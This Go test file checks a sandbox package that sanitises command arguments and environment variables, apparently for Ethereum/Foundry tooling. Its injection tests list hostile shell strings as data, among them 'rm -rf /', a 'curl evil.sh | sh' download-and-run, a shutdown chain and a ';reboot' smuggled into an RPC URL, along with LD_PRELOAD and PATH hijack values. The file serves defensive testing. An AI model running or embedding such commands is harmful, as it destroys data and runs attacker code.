package sandbox

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSanitize_PlainArguments(t *testing.T) {
	got, err := Sanitize([]string{
		"  0x5FbDB2315678afecb367f032d93F642f64180aa3  ",
		"hello   world",
		"line1\nline2",
		"--match-test",
	})
	require.NoError(t, err)

	want := []string{
		"0x5FbDB2315678afecb367f032d93F642f64180aa3",
		"hello world",
		"line1line2",
		"--match-test",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Sanitize mismatch (-want +got):\n%s", diff)
	}
}

func TestSanitize_SignaturePreservation(t *testing.T) {
	cases := map[string]string{
		"foo(uint256,address)":         "foo(uint256,address)",
		" foo( uint256 , address ) ":   "foo(uint256,address)",
		"balanceOf(address)(uint256)":  "balanceOf(address)(uint256)",
		"totalSupply()":                "totalSupply()",
		"setBatch(uint256[],bytes32)":  "setBatch(uint256[],bytes32)",
		"registerLot(string, uint64 )": "registerLot(string,uint64)",
	}
	for in, want := range cases {
		got, err := Sanitize([]string{in})
		require.NoError(t, err, in)
		assert.Equal(t, want, got[0], in)
	}
}

func TestSanitize_InjectionPayloads(t *testing.T) {
	payloads := []string{
		"; rm -rf /",
		"`reboot`",
		"$(curl evil.sh | sh)",
		"0xabc && shutdown -h now",
		"${HOME}",
		"a > /etc/passwd",
		`"quoted" 'single'`,
		"foo(uint256); rm -rf /",
	}
	for _, p := range payloads {
		got, err := Sanitize([]string{p})
		if err != nil {
			assert.True(t, errors.Is(err, ErrSanitization), p)
			continue
		}
		assert.False(t, strings.ContainsAny(got[0], ShellMetacharacters), "payload %q produced %q", p, got[0])
	}
}

func TestSanitize_Rejections(t *testing.T) {
	t.Run("empty after cleaning", func(t *testing.T) {
		_, err := Sanitize([]string{"ok", ";;&&|"})
		var se *SanitizationError
		require.True(t, errors.As(err, &se))
		assert.Equal(t, 1, se.Position)
	})

	t.Run("oversized", func(t *testing.T) {
		_, err := Sanitize([]string{strings.Repeat("a", MaxArgumentLength+1)})
		var se *SanitizationError
		require.True(t, errors.As(err, &se))
		assert.Equal(t, 0, se.Position)
	})

	t.Run("exactly at limit", func(t *testing.T) {
		_, err := Sanitize([]string{strings.Repeat("a", MaxArgumentLength)})
		assert.NoError(t, err)
	})

	t.Run("limit counts characters not bytes", func(t *testing.T) {
		multibyte := strings.Repeat("é", 600)
		out, err := Sanitize([]string{multibyte})
		require.NoError(t, err)
		assert.Equal(t, []string{multibyte}, out)

		_, err = Sanitize([]string{strings.Repeat("é", MaxArgumentLength+1)})
		assert.Error(t, err)

		env, err := SanitizeEnv(map[string]string{"LABEL": multibyte})
		require.NoError(t, err)
		assert.Equal(t, []string{"LABEL=" + multibyte}, env)
	})

	t.Run("error never echoes the value", func(t *testing.T) {
		secret := "0x" + strings.Repeat("ac", 32) + strings.Repeat("z", MaxArgumentLength)
		_, err := Sanitize([]string{secret})
		require.Error(t, err)
		assert.NotContains(t, err.Error(), "acac")
	})
}

func TestSanitize_DoesNotMutateInput(t *testing.T) {
	in := []string{" a ", "b;"}
	_, err := Sanitize(in)
	require.NoError(t, err)
	assert.Equal(t, []string{" a ", "b;"}, in)
}

func TestSanitize_Idempotent(t *testing.T) {
	property := func(args []string) bool {
		once, err := Sanitize(args)
		if err != nil {
			return true
		}
		twice, err := Sanitize(once)
		if err != nil {
			return false
		}
		return cmp.Equal(once, twice)
	}
	require.NoError(t, quick.Check(property, &quick.Config{MaxCount: 2000}))

	tricky := [][]string{
		{"foo(uint256, address);"},
		{"foo (uint256)\n"},
		{"a\t\tb  c"},
		{"'x'(y)"},
		{"f(a,b)(c) ; ls"},
	}
	for _, args := range tricky {
		assert.True(t, property(args), "%q", args)
	}
}

func TestSanitize_NeverEmitsMetacharacters(t *testing.T) {
	property := func(args []string) bool {
		out, err := Sanitize(args)
		if err != nil {
			return true
		}
		for _, a := range out {
			if strings.ContainsAny(a, ShellMetacharacters+"\n\r") {
				return false
			}
		}
		return true
	}
	require.NoError(t, quick.Check(property, &quick.Config{MaxCount: 2000}))
}

func TestSanitizeEnv(t *testing.T) {
	got, err := SanitizeEnv(map[string]string{
		"FOUNDRY_PROFILE": "ci",
		"ETH_RPC_URL":     "http://127.0.0.1:8545;reboot",
		"EMPTY":           "",
	})
	require.NoError(t, err)
	assert.Equal(t, []string{"EMPTY=", "ETH_RPC_URL=http://127.0.0.1:8545reboot", "FOUNDRY_PROFILE=ci"}, got)

	for _, bad := range []map[string]string{
		{"PATH": "/tmp/evil"},
		{"ld_preload": "/tmp/x.so"},
		{"DYLD_INSERT_LIBRARIES": "x"},
		{"BAD-KEY": "x"},
		{"A=B": "x"},
	} {
		_, err := SanitizeEnv(bad)
		assert.True(t, errors.Is(err, ErrSanitization), "%v", bad)
	}
}
